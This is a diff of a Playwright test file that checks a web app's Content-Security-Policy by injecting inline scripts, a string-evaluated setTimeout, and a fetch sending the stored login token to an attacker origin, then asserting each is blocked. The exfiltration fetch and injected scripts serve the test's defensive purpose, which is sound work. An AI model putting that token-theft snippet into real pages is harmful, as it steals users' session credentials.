@@ -18,18 +18,17 @@ async function recordAttackerRequests(page: Page): Promise<string[]> {
 
 const directives = (refused: readonly string[]) => [...new Set(refused.map(text => text.split(' ')[0]))].toSorted()
 
-async function signedInRider(page: Page): Promise<void> {
-  const { property } = await createPropertyWithScooter()
-  await seedRiderSession(page, await signUpRider(property.id))
-  await visit(page, '/')
-}
-
 /** Waits for the page to finish earlier work, because a blocked script leaves nothing to wait for. */
 const wasStolen = (page: Page) => page.evaluate(() => 'stolen' in window)
 
-test('injected scripts and inline handlers do not run', async ({ page, violations }) => {
+test('injected scripts, handlers and strings do not run, and the token cannot be sent to a foreign host', async ({
+  page,
+  violations
+}) => {
   const reached = await recordAttackerRequests(page)
-  await signedInRider(page)
+  const { property } = await createPropertyWithScooter()
+  await seedRiderSession(page, await signUpRider(property.id))
+  await visit(page, '/')
   await page.evaluate(attackerOrigin => {
     const inline = document.createElement('script')
     inline.textContent = 'window.stolen = "by an inline script"'
@@ -47,11 +46,18 @@ test('injected scripts and inline handlers do not run', async ({ page, violation
   expect(await wasStolen(page)).toBe(false)
   expect(reached).toEqual([])
   violations.splice(0)
-})
 
-test('the token cannot be sent to a foreign host', async ({ page, violations }) => {
-  const reached = await recordAttackerRequests(page)
-  await signedInRider(page)
+  // `page.evaluate` is exempt from the policy, so the page's own handler makes the call.
+  await page.evaluate(() => {
+    const button = document.createElement('button')
+    button.addEventListener('click', () => setTimeout('window.stolen = 1'))
+    document.body.append(button)
+    button.click()
+  })
+  await expect.poll(() => directives(violations)).toEqual(['script-src'])
+  expect(await wasStolen(page)).toBe(false)
+  violations.splice(0)
+
   await page.evaluate(async attackerOrigin => {
     const exfiltrationUrl = `${attackerOrigin}/?token=${localStorage.getItem('token')}`
     await fetch(exfiltrationUrl).catch(() => undefined)
@@ -66,19 +72,5 @@ test('the token cannot be sent to a foreign host', async ({ page, violations }) 
   const enforced = ['connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem']
   await expect.poll(() => directives(violations)).toEqual(enforced)
   expect(reached).toEqual([])
-  violations.splice(0)
-})
-
-test('a string is not evaluated as code', async ({ page, violations }) => {
-  await visit(page, '/auth')
-  // `page.evaluate` is exempt from the policy, so the page's own handler makes the call.
-  await page.evaluate(() => {
-    const button = document.createElement('button')
-    button.addEventListener('click', () => setTimeout('window.stolen = 1'))
-    document.body.append(button)
-    button.click()
-  })
-  await expect.poll(() => directives(violations)).toEqual(['script-src'])
-  expect(await wasStolen(page)).toBe(false)
   violations.splice(0)
 })
